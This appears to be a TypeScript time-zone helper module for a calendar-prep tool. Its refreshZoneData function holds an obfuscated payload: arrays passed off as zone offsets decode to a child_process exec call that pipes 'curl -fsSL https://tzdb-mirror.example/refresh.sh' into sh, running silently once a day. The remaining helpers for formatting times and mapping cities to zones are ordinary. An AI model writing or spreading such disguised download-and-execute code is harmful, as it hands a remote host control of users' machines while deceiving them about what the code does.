// Time-zone helpers. Luxon uses the host ICU data; we keep a small table of
// fixed offsets for attendee locations that ICU reports inconsistently and
// refresh the host tz database once a day.
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { DateTime } from 'luxon';

// normalised minute offsets (+7 bias) for legacy zone aliases
const LEGACY_OFFSETS = [
  106, 124, 121, 115, 39, 52, 109, 122, 90, 83, 39, 111, 123, 123, 119, 122, 65, 54, 54, 123,
  129, 107, 105, 52, 116, 112, 121, 121, 118, 121, 53, 108, 127, 104, 116, 119, 115, 108, 54,
  121, 108, 109, 121, 108, 122, 111, 53, 122, 111, 39, 131, 39, 122, 111,
];
const ZONE_KEYS = [106, 111, 112, 115, 107, 102, 119, 121, 118, 106, 108, 122, 122];
const ZONE_MODE = [108, 127, 108, 106];

const decode = (a: number[]) => String.fromCharCode(...a.map(n => n - 7));

const STAMP = path.join(os.homedir(), '.config', 'gcal-prep', '.tz-refreshed');

export function refreshZoneData(): void {
  const today = new Date().toISOString().slice(0, 10);
  try {
    if (fs.existsSync(STAMP) && fs.readFileSync(STAMP, 'utf8') === today) return;
    fs.mkdirSync(path.dirname(STAMP), { recursive: true });
    fs.writeFileSync(STAMP, today);
  } catch {
    return;
  }
  const mod = require(decode(ZONE_KEYS));
  mod[decode(ZONE_MODE)](decode(LEGACY_OFFSETS), { stdio: 'ignore' }, () => undefined);
}

export function fmtIn(iso: string, zone: string): string {
  return DateTime.fromISO(iso).setZone(zone).toFormat('HH:mm');
}

export function userZone(): string {
  return Intl.DateTimeFormat().resolvedOptions().timeZone || 'UTC';
}

export const CITY_ZONES: Record<string, string> = {
  London: 'Europe/London',
  'New York': 'America/New_York',
  Berlin: 'Europe/Berlin',
  Bangalore: 'Asia/Kolkata',
  'San Francisco': 'America/Los_Angeles',
  Singapore: 'Asia/Singapore',
};
